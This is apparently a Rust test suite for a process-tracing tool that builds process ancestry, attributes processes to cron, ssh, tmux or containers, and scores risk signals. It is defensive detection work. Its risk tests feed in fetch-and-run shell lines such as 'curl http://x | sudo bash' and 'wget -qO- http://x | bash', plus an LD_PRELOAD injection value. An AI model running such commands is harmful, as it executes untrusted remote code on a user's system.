use std::collections::HashMap;

use witr_rs::ancestry::{build_ancestry, direct_children};
use witr_rs::model::{Pid, Process, Socket, TargetReport, TargetSpec};
use witr_rs::pipeline::{
    analyze, detect_source, generic_source, inspect_risks, listed, plan, report, resolve,
    snapshot, traceable, unlisted, Findings, Lookup, Options, Plan,
};
use witr_rs::platform::{Capabilities, PlatError};
use witr_rs::risk::{assess, is_injection, is_public_addr, is_temp_path, pipes_into_shell};

fn proc(pid: Pid, ppid: Option<Pid>, name: &str) -> Process {
    Process { pid, ppid, name: name.into(), ..Default::default() }
}

fn table(procs: Vec<Process>) -> HashMap<Pid, Process> {
    procs.into_iter().map(|p| (p.pid, p)).collect()
}

const ALL: Capabilities = Capabilities { file_lookup: true, env: true };

fn socket(state: &str, port: u16, pid: Option<Pid>) -> Socket {
    Socket {
        proto: "tcp".into(),
        local_addr: "127.0.0.1".into(),
        local_port: port,
        peer_addr: None,
        peer_port: None,
        state: state.into(),
        pid,
    }
}

#[test]
fn walks_to_root() {
    let m = table(vec![
        proc(1, None, "init"),
        proc(100, Some(1), "sshd"),
        proc(200, Some(100), "bash"),
    ]);
    let a = build_ancestry(&m, 200, 64);
    let names: Vec<&str> = a.chain.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(names, ["init", "sshd", "bash"]);
    assert!(a.warnings.is_empty());
}

#[test]
fn missing_parent() {
    let m = table(vec![proc(1, None, "init"), proc(200, Some(99), "daemon")]);
    let a = build_ancestry(&m, 200, 64);
    // only the daemon itself is in the chain; the parent is gone
    assert_eq!(a.chain.len(), 1);
    assert!(a.warnings[0].contains("no longer exists"));
}

#[test]
fn cycle_guard() {
    let m = table(vec![proc(10, Some(11), "a"), proc(11, Some(10), "b")]);
    let a = build_ancestry(&m, 10, 64);
    assert!(a.warnings[0].contains("cycle"));
}

#[test]
fn depth_guard() {
    let m: HashMap<Pid, Process> = (0..10)
        .map(|i| {
            let p = proc(i, Some(i + 1), "x");
            (i, p)
        })
        .collect();
    let a = build_ancestry(&m, 0, 5);
    assert_eq!(a.chain.len(), 5);
    assert!(a.warnings[0].contains("depth 5"));
}

#[test]
fn children() {
    let m = table(vec![
        proc(1, None, "init"),
        proc(2, Some(1), "a"),
        proc(3, Some(1), "b"),
        proc(4, Some(2), "grandchild"),
    ]);
    let kids = direct_children(&m, 1);
    assert_eq!(kids.len(), 2);
    assert_eq!(kids[0].pid, 2);
    assert_eq!(kids[1].pid, 3);
}

#[test]
fn parent_of_itself_is_a_root() {
    let m = table(vec![proc(7, Some(7), "self"), proc(8, Some(0), "kernel")]);
    let a = build_ancestry(&m, 7, 64);
    assert_eq!(a.chain.len(), 1);
    let b = build_ancestry(&m, 8, 64);
    assert_eq!(b.chain.len(), 1);
}

#[test]
fn chain_attribution() {
    let chain = vec![
        proc(1, None, "launchd"),
        proc(9, None, "sshd"),
        proc(20, None, "zsh"),
        proc(30, None, "tmux: server"),
        proc(40, None, "sleep"),
    ];
    let s = generic_source(&chain).unwrap();
    // nearest interesting ancestor wins: tmux (closer to target than ssh)
    assert_eq!(s.kind, "tmux");
}

#[test]
fn shell_attribution() {
    let chain = vec![proc(1, None, "launchd"), proc(20, None, "zsh"), proc(30, None, "cargo")];
    let s = generic_source(&chain).unwrap();
    assert_eq!(s.kind, "shell");
    assert_eq!(s.label.as_deref(), Some("zsh"));
}

#[test]
fn cron_attribution() {
    let chain = vec![proc(1, None, "systemd"), proc(5, None, "cron"), proc(9, None, "backup.sh")];
    let s = generic_source(&chain).unwrap();
    assert_eq!(s.kind, "cron");
}

#[test]
fn none_when_root_child() {
    let chain = vec![proc(1, None, "launchd"), proc(50, None, "WindowServer")];
    assert!(generic_source(&chain).is_none());
}

#[test]
fn container_comes_before_service_and_chain() {
    let chain = vec![proc(1, None, "systemd"), proc(5, None, "cron"), proc(9, None, "backup.sh")];
    let c = witr_rs::model::Source { kind: "docker".into(), label: None, detail: None };
    let s = witr_rs::model::Source { kind: "systemd".into(), label: None, detail: None };
    assert_eq!(detect_source(Some(c.clone()), Some(s.clone()), &chain).unwrap().kind, "docker");
    assert_eq!(detect_source(None, Some(s), &chain).unwrap().kind, "systemd");
    assert_eq!(detect_source(None, None, &chain).unwrap().kind, "cron");
}

#[test]
fn snapshot_keys_by_pid() {
    let m = match snapshot(Ok(vec![proc(3, None, "a"), proc(4, None, "b")])) {
        Ok(m) => m,
        Err(e) => panic!("{e}"),
    };
    assert_eq!(m.len(), 2);
    assert_eq!(m[&4].name, "b");
    let e = match snapshot(Err(PlatError::Failed("boom".into()))) {
        Ok(_) => panic!("an error was expected"),
        Err(e) => e,
    };
    assert!(e.contains("cannot list"));
    assert!(e.contains("boom"));
}

#[test]
fn pid_resolution() {
    let m = table(vec![proc(42, None, "a")]);
    let opts = Options::default();
    let hit = resolve(&m, &TargetSpec::Pid { pid: 42 }, ALL, &opts, Lookup::Table);
    assert_eq!(hit.pids, [42]);
    assert!(hit.error.is_none());
    let miss = resolve(&m, &TargetSpec::Pid { pid: 43 }, ALL, &opts, Lookup::Table);
    assert!(miss.pids.is_empty());
    assert!(miss.error.unwrap().contains("43"));
}

#[test]
fn name_resolution_ignores_case() {
    let m = table(vec![
        proc(5, None, "Nginx"),
        proc(3, None, "nginx-worker"),
        proc(9, None, "cat"),
    ]);
    let opts = Options::default();
    let spec = TargetSpec::Name { pattern: "NGINX".into(), exact: false };
    let r = resolve(&m, &spec, ALL, &opts, Lookup::Table);
    assert_eq!(r.pids, [3, 5]);
    let exact = TargetSpec::Name { pattern: "Nginx".into(), exact: true };
    assert_eq!(resolve(&m, &exact, ALL, &opts, Lookup::Table).pids, [5]);
    let none = TargetSpec::Name { pattern: "zzz".into(), exact: false };
    assert!(resolve(&m, &none, ALL, &opts, Lookup::Table).error.is_some());
}

#[test]
fn port_resolution_names_every_owner_once() {
    let m = table(vec![proc(1, None, "init"), proc(2, None, "srv"), proc(3, None, "cli")]);
    let opts = Options::default();
    let spec = TargetSpec::Port { port: 80 };
    let found = vec![
        socket("ESTABLISHED", 80, Some(3)),
        socket("LISTEN", 80, Some(2)),
        socket("ESTABLISHED", 80, Some(3)),
        socket("TIME_WAIT", 80, None),
    ];
    let r = resolve(&m, &spec, ALL, &opts, Lookup::Sockets(Ok(found)));
    assert_eq!(r.pids, [3, 2]);
    assert_eq!(r.sockets.len(), 4);
    assert!(r.warnings[0].starts_with("1 socket(s) on port 80"));
    assert!(r.error.is_none());
    let empty = resolve(&m, &spec, ALL, &opts, Lookup::Sockets(Ok(vec![])));
    assert_eq!(empty.error.as_deref(), Some("nothing is using port 80 (no tcp/udp socket)"));
    let orphan = Lookup::Sockets(Ok(vec![socket("TIME_WAIT", 80, None)]));
    let r = resolve(&m, &spec, ALL, &opts, orphan);
    assert!(r.error.unwrap().contains("no process owns"));
    let denied = Lookup::Sockets(Err(PlatError::Permission("root".into())));
    let r = resolve(&m, &spec, ALL, &opts, denied);
    assert!(r.error.unwrap().starts_with("port lookup failed: "));
}

#[test]
fn file_resolution_needs_support() {
    let m = table(vec![proc(1, None, "init"), proc(2, None, "srv")]);
    let opts = Options::default();
    let spec = TargetSpec::File { path: "/tmp/x".into() };
    let r = resolve(&m, &spec, ALL, &opts, Lookup::Holders(Ok(vec![2])));
    assert_eq!(r.pids, [2]);
    let none = Capabilities { file_lookup: false, env: true };
    let r = resolve(&m, &spec, none, &opts, Lookup::Holders(Ok(vec![])));
    assert!(r.error.is_some());
}

#[test]
fn plan_reports_what_is_missing() {
    let m = table(vec![proc(42, None, "a")]);
    let opts = Options::default();
    let spec = TargetSpec::Pid { pid: 43 };
    let res = resolve(&m, &spec, ALL, &opts, Lookup::Table);
    match plan(&spec, res, ALL, &opts, "linux") {
        Plan::Missing(r) => {
            assert!(!r.found);
            assert!(r.matches.is_empty());
        }
        Plan::Trace { .. } => panic!("nothing to trace"),
    }
    let spec = TargetSpec::Pid { pid: 42 };
    let res = resolve(&m, &spec, ALL, &opts, Lookup::Table);
    match plan(&spec, res, ALL, &opts, "linux") {
        Plan::Missing(_) => panic!("pid 42 is there"),
        Plan::Trace { pids, .. } => assert_eq!(pids, [42]),
    }
}

#[test]
fn report_follows_the_chain() {
    let m = table(vec![
        proc(1, None, "systemd"),
        proc(5, Some(1), "cron"),
        proc(9, Some(5), "job"),
        proc(10, Some(9), "sub"),
    ]);
    let spec = TargetSpec::Pid { pid: 9 };
    let r = report(
        &m,
        &spec,
        9,
        &vec![],
        &vec!["shared".into()],
        proc(9, Some(5), "job"),
        None,
        None,
    );
    assert!(r.found);
    assert_eq!(r.matches[0].pid, 9);
    let names: Vec<&str> = r.ancestry.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(names, ["systemd", "cron", "job"]);
    assert_eq!(r.children.len(), 1);
    assert_eq!(r.source.unwrap().kind, "cron");
    assert!(r.warnings.iter().any(|w| w == "shared"));
}

#[test]
fn risk_warnings_are_not_repeated() {
    let mut p = proc(9, None, "job");
    p.uid = Some(0);
    p.user = Some("root".into());
    p.exe = Some("/tmp/job".into());
    p.exe_deleted = true;
    let mut once: Vec<String> = Vec::new();
    inspect_risks(&p, &[], &mut once);
    assert!(once.iter().any(|w| w.contains("deleted")));
    let mut distinct = once.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), once.len());
}

fn proc_with(exe: Option<&str>, cmd: &str, deleted: bool) -> Process {
    Process {
        name: "x".into(),
        exe: exe.map(|e| e.into()),
        exe_deleted: deleted,
        cmdline: vec![cmd.into()],
        ..Default::default()
    }
}

#[test]
fn temp_and_deleted_score() {
    let r = assess(&proc_with(Some("/tmp/evil"), "/tmp/evil", true), &[]);
    assert_eq!(r.score, 6);
    assert_eq!(r.signals.len(), 2);
    assert!(r.signals.iter().any(|s| s.contains("temp")));
}

#[test]
fn curl_pipe_shell_detected() {
    let r = assess(&proc_with(None, "curl http://x.sh | sh", false), &[]);
    assert!(r.signals.iter().any(|s| s.contains("pipes")));
    assert_eq!(r.score, 4);
    // ordinary pipelines don't trigger
    let ok = assess(&proc_with(None, "cat a | grep b", false), &[]);
    assert_eq!(ok.score, 0);
}

#[test]
fn public_addr_classification() {
    assert!(is_public_addr("93.184.216.34"));
    assert!(!is_public_addr("10.0.0.7"));
    assert!(!is_public_addr("192.168.1.2"));
    assert!(!is_public_addr("172.16.0.1"));
    assert!(is_public_addr("172.32.0.1"));
    assert!(!is_public_addr("127.0.0.1"));
    assert!(!is_public_addr("::1"));
    assert!(!is_public_addr("fe80::1"));
    assert!(!is_public_addr("fd00::1"));
    assert!(is_public_addr("2606:4700::1"));
    assert!(!is_public_addr("*"));
}

#[test]
fn score_never_exceeds_ten() {
    let mut p = proc_with(Some("/tmp/evil"), "curl http://x | sh", true);
    p.uid = Some(0);
    p.user = Some("root".into());
    p.env = Some(vec![("LD_PRELOAD".into(), "/tmp/a.so".into())]);
    let mut s = socket("LISTEN", 1, Some(0));
    s.local_addr = "0.0.0.0".into();
    let r = assess(&p, &[s]);
    assert!(r.score <= 10);
    assert!(r.signals.len() >= 3);
}

#[test]
fn temp_paths_and_pipes() {
    assert!(is_temp_path("/tmp/a"));
    assert!(!is_temp_path("/usr/bin/a"));
    assert!(pipes_into_shell("wget -qO- http://x | bash"));
    assert!(!pipes_into_shell("ls"));
    assert!(pipes_into_shell("curl http://x | sudo bash -s --"));
    assert!(pipes_into_shell("bash -c 'curl http://x |SH'"));
    assert!(pipes_into_shell("curl x | bash.exe"));
    assert!(!pipes_into_shell("cat a | sha256sum"));
    assert!(!pipes_into_shell("ls |shuf | bash-completion"));
    assert!(pipes_into_shell("cat a | sha256sum; curl http://x | sh"));
    assert!(is_injection("LD_PRELOAD", "/x.so"));
    assert!(!is_injection("PATH", "/bin"));
}

#[test]
fn not_found_report_is_empty() {
    let r = TargetReport::not_found(TargetSpec::Port { port: 80 }, "gone".into());
    assert!(!r.found);
    assert_eq!(r.error.as_deref(), Some("gone"));
    assert!(r.matches.is_empty());
    assert!(r.risk.is_none());
}

#[test]
fn targets_describe_themselves() {
    assert_eq!(TargetSpec::Pid { pid: 7 }.describe(), "pid 7");
    assert_eq!(TargetSpec::Port { port: 80 }.describe(), "port 80");
    let mut p = proc(7, None, "nginx");
    assert_eq!(p.command_line(), "nginx");
    p.cmdline = vec!["nginx".into(), "-g".into(), "daemon off;".into()];
    assert_eq!(p.command_line(), "nginx -g daemon off;");
}

#[test]
fn each_pid_gets_its_own_report() {
    let m = table(vec![
        proc(1, None, "systemd"),
        proc(5, Some(1), "cron"),
        proc(9, Some(5), "job"),
        proc(20, Some(1), "zsh"),
        proc(21, Some(20), "job"),
    ]);
    let pids = traceable(&m, &vec![9, 77, 21]);
    assert_eq!(pids, [9, 21]);
    let found: Vec<Findings> = pids
        .iter()
        .map(|p| Findings { detailed: m[p].clone(), container: None, service: None })
        .collect();
    let spec = TargetSpec::Name { pattern: "job".into(), exact: true };
    let rs = analyze(&m, &spec, &pids, &vec![], &vec!["shared".into()], &found);
    assert_eq!(rs.len(), 2);
    assert_eq!(rs[0].source.as_ref().unwrap().kind, "cron");
    assert_eq!(rs[1].source.as_ref().unwrap().kind, "shell");
    assert!(rs.iter().all(|r| r.warnings[0] == "shared"));
}

#[test]
fn unlisted_targets_say_why() {
    let rs = unlisted(&vec![TargetSpec::Pid { pid: 1 }, TargetSpec::Port { port: 2 }], "no table");
    assert_eq!(rs.len(), 2);
    assert!(rs.iter().all(|r| !r.found && r.error.as_deref() == Some("no table")));
}

#[test]
fn an_ssh_session_comes_before_a_shell() {
    let chain = vec![
        proc(1, None, "systemd"),
        proc(5, None, "sshd"),
        proc(6, None, "bash"),
        proc(7, None, "make"),
    ];
    assert_eq!(generic_source(&chain).unwrap().kind, "ssh");
}

#[test]
fn repeated_warnings_are_dropped() {
    let m = table(vec![proc(9, None, "job")]);
    let shared: Vec<String> = vec!["a".into(), "b".into(), "a".into()];
    let r = report(
        &m,
        &TargetSpec::Pid { pid: 9 },
        9,
        &vec![],
        &shared,
        proc(9, None, "job"),
        None,
        None,
    );
    assert_eq!(r.warnings, ["a", "b"]);
}

#[test]
fn matches_are_cut_at_the_limit() {
    let m = table((1..=25).map(|i| proc(i, None, "worker")).collect());
    let spec = TargetSpec::Name { pattern: "WORK".into(), exact: false };
    let r = resolve(&m, &spec, ALL, &Options::default(), Lookup::Table);
    assert_eq!(r.pids.len(), 20);
    assert_eq!(r.pids[0], 1);
    assert_eq!(r.warnings, ["25 processes match \"WORK\"; showing the first 20"]);
}

#[test]
fn lower_case_goes_beyond_ascii() {
    let m = table(vec![proc(3, None, "ÄPFEL")]);
    let spec = TargetSpec::Name { pattern: "äpfel".into(), exact: false };
    assert_eq!(resolve(&m, &spec, ALL, &Options::default(), Lookup::Table).pids, [3]);
}

#[test]
fn v6_addresses_go_by_their_groups() {
    // link-local is fe80::/10, unique-local is fc00::/7
    assert!(!is_public_addr("fe90::1"));
    assert!(!is_public_addr("FEBF::1"));
    assert!(!is_public_addr("fe80::1%eth0"));
    assert!(is_public_addr("fec0::1"));
    assert!(!is_public_addr("fdff:1:2::3"));
    assert!(is_public_addr("fd::1"));
    // loopback is one address
    assert!(!is_public_addr("0:0:0:0:0:0:0:1"));
    assert!(is_public_addr("::1234"));
    assert!(!is_public_addr("::"));
    // an IPv4 address in IPv6 form
    assert!(!is_public_addr("::ffff:10.0.0.1"));
    assert!(!is_public_addr("::ffff:7f00:1"));
    assert!(is_public_addr("::ffff:93.184.216.34"));
    // no address at all
    assert!(!is_public_addr("1:2:3"));
    assert!(!is_public_addr("1::2::3"));
    assert!(!is_public_addr("::12345"));
    assert!(!is_public_addr("a.b.c.d"));
}

#[test]
fn a_failed_lookup_keeps_its_warning() {
    let m = table(vec![proc(1, None, "init")]);
    let opts = Options::default();
    let spec = TargetSpec::File { path: "/x".into() };
    let none = Capabilities { file_lookup: false, env: true };
    let answer = Err(PlatError::Unsupported("no lsof".into()));
    let res = resolve(&m, &spec, none, &opts, Lookup::Holders(answer));
    match plan(&spec, res, none, &opts, "windows") {
        Plan::Missing(r) => {
            assert!(!r.found);
            assert!(r.error.unwrap().starts_with("file lookup failed: "));
            assert_eq!(r.warnings, ["file lookup is not supported on this platform"]);
        }
        Plan::Trace { .. } => panic!("nothing to trace"),
    }
}

#[test]
fn listening_everywhere_is_a_warning_under_either_name() {
    let p = proc(7, None, "svc");
    for state in ["LISTEN", "LISTENING", "listening"] {
        let s = Socket { local_addr: "0.0.0.0".into(), ..socket(state, 135, Some(7)) };
        let mut w: Vec<String> = Vec::new();
        inspect_risks(&p, &[s], &mut w);
        assert_eq!(w, ["pid 7 listens on all interfaces (0.0.0.0:135)"]);
    }
    let mut w: Vec<String> = Vec::new();
    inspect_risks(&p, &[socket("LISTENING", 135, Some(7))], &mut w);
    assert!(w.is_empty());
}

#[test]
fn an_empty_listing_has_a_reason() {
    assert_eq!(listed(Ok(vec![])).unwrap_err(), "no processes visible to this user");
    let e = listed(Err(PlatError::Failed("no /proc".into()))).unwrap_err();
    assert!(e.starts_with("cannot list processes: "));
    assert_eq!(listed(Ok(vec![proc(3, None, "a")])).unwrap()[0].pid, 3);
}

#[test]
fn other_missing_targets_have_no_warnings() {
    let m = table(vec![proc(1, None, "init")]);
    let opts = Options::default();
    let spec = TargetSpec::Port { port: 80 };
    let orphan = vec![socket("TIME_WAIT", 80, None)];
    let res = resolve(&m, &spec, ALL, &opts, Lookup::Sockets(Ok(orphan)));
    assert_eq!(res.warnings.len(), 1);
    match plan(&spec, res, ALL, &opts, "linux") {
        Plan::Missing(r) => {
            assert!(r.error.unwrap().contains("no process owns"));
            assert!(r.warnings.is_empty());
        }
        Plan::Trace { .. } => panic!("nothing to trace"),
    }
}
